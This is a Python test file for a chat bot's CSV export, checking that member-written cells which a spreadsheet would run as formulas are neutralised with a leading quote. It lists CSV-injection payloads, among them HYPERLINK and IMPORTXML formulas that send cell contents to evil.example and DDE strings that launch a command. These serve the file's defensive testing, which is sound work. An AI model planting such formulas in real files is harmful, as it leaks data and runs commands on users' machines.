"""CSV exports open in a spreadsheet as text: no cell of member text can become a formula."""

import csv
import io

import pytest

from handlers.export import FORMULA_STARTS, csv_text, inert
from tests.conftest import TestBot

# What members may write that a spreadsheet would run (OWASP "CSV Injection"), and the same behind
# the blanks some spreadsheets skip.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "  =1+1",
    "\n@SUM(A1)",
]


def cells(content: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content)))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_could_start_a_formula_is_kept_as_text(text: str) -> None:
    assert inert(text) == "'" + text  # readable: the text is all there, after one quote


@pytest.mark.parametrize(
    "text", ["tested the form with 5 residents", "", "3-4 people", "a = b", "'quoted already", "#7"]
)
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert inert(text) == text


def test_every_cell_written_is_inert() -> None:
    rows = [["id", "text"], [1, "=1+1"], [2, None], [3, "fine"]]
    assert cells(csv_text(rows)) == [["id", "text"], ["1", "'=1+1"], ["2", ""], ["3", "fine"]]


def test_export_neutralises_member_text_in_updates_and_blockers(world: TestBot) -> None:
    for text in HOSTILE:
        # The bot strips what surrounds a command's text; what a spreadsheet would run stays.
        world.say("console:a1", f"update: {text}")
        world.say("console:a1", f"blocker: {text}")
    world.say("console:a1", '/cda resolve 1 =IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")')
    for kind in ("updates", "blockers"):
        (reply,) = world.send("console:coach-a", f"/cda export {kind}")
        assert reply.attachment is not None
        table = cells(reply.attachment.content)
        body = [cell for row in table[1:] for cell in row]
        assert not [cell for cell in body if cell.lstrip().startswith(FORMULA_STARTS)], body
        texts = [row[table[0].index("text")] for row in table[1:]]
        assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in texts
        assert "'@SUM(1+1)*cmd|' /C calc'!A0" in texts
    note = cells(world.send("console:coach-a", "/cda export blockers")[0].attachment.content)  # type: ignore[union-attr]
    assert any(row[-1].startswith("'=IMPORTXML(") for row in note[1:])


def test_export_reply_counts_rows_and_cities_in_the_singular_and_plural(world: TestBot) -> None:
    assert world.say("console:coach-a", "/cda export blockers") == (
        "1 blocker from 1 city, as CSV (cda-blockers-20261128.csv)."
    )
    world.say("console:b1", "update: another")
    assert world.say("console:coach-ab", "/cda export updates").startswith(
        "3 updates from 2 cities, as CSV (cda-updates-20261128.csv)."
    )
